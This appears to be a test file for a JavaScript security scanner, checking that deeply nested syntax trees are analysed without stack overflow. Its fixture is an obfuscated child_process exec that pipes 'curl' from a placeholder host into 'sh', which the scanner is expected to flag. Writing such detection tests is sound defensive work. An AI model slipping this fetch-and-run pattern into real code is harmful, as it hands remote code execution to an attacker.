import { describe, expect, it } from 'vitest';
import { analyseProgram } from '../../helper/src/scan/js/analyse.js';
import { parseProgram, type Node } from '../../helper/src/scan/js/parse.js';

// Our own passes over the tree (walk, bindings, folding, taint flow, signals) must never recurse once per level of
// nesting: only the parser needs a larger stack (scan/deep.ts). The tree here is deepened by hand, 100,000 levels
// (no parser could build it in this thread), so a pass that recursed per level would overflow this thread's stack.
const DEFS = "const cp = require('child_process'), u = 'https://example.invalid/x', q = 0;\n";
const PAYLOAD = 'cp["ex"+"ec"]("cu"+"rl "+u+" | s"+"h");\n';
const DEPTH = 100_000;

const WRAPS: [name: string, wrap: (inner: Node, at: Node) => Node][] = [
  ['negations', (inner, at) => ({ type: 'UnaryExpression', operator: '!', prefix: true, argument: inner, start: at.start, end: at.end })],
  ['arrow functions', (inner, at) => ({ type: 'ArrowFunctionExpression', params: [], body: inner, expression: true, async: false, start: at.start, end: at.end })],
  ['conditionals', (inner, at) => ({ type: 'ConditionalExpression', test: { type: 'Identifier', name: 'q', start: at.start, end: at.start }, consequent: { type: 'Literal', value: 1, start: at.start, end: at.start }, alternate: inner, start: at.start, end: at.end })],
  ['template literals', (inner, at) => ({ type: 'TemplateLiteral', quasis: [{ type: 'TemplateElement', value: { raw: '', cooked: '' }, tail: false, start: at.start, end: at.start }, { type: 'TemplateElement', value: { raw: '', cooked: '' }, tail: true, start: at.end, end: at.end }], expressions: [inner], start: at.start, end: at.end })],
  ['call arguments', (inner, at) => ({ type: 'CallExpression', callee: { type: 'Identifier', name: 'f', start: at.start, end: at.start }, arguments: [inner], optional: false, start: at.start, end: at.end })],
  ['blocks', (inner, at) => ({ type: 'BlockStatement', body: [{ type: 'ExpressionStatement', expression: inner, start: at.start, end: at.end }], start: at.start, end: at.end })],
  ['functions', (inner, at) => ({ type: 'FunctionExpression', id: null, params: [], body: { type: 'BlockStatement', body: [{ type: 'ExpressionStatement', expression: inner, start: at.start, end: at.end }], start: at.start, end: at.end }, async: false, generator: false, start: at.start, end: at.end })],
];

describe('code analysis: a tree nested 100,000 deep is analysed without recursion', () => {
  for (const [name, wrap] of WRAPS) {
    it(`${name}: the payload inside is found`, () => {
      const text = DEFS + PAYLOAD;
      const parsed = parseProgram(text);
      if ('error' in parsed) throw new Error(parsed.error);
      const statement = (parsed.program.body as Node[])[1]!;
      let expr = statement.expression as Node;
      const at = expr;
      for (let i = 0; i < DEPTH; i++) expr = wrap(expr, at);
      // A statement cannot stand where an expression goes: blocks are wrapped in an arrow's body.
      statement.expression = expr.type === 'BlockStatement' ? { type: 'ArrowFunctionExpression', params: [], body: expr, expression: false, async: false, start: at.start, end: at.end } : expr;
      // The depth is past this thread's stack for a recursive pass: JSON.stringify, one, overflows.
      expect(() => JSON.stringify(parsed.program)).toThrow(RangeError);
      const kinds = analyseProgram(parsed.program, text).signals.map((s) => s.kind);
      expect(kinds).toContain('hidden-exec');
      expect(kinds).toContain('exec:download-exec');
    });
  }
});
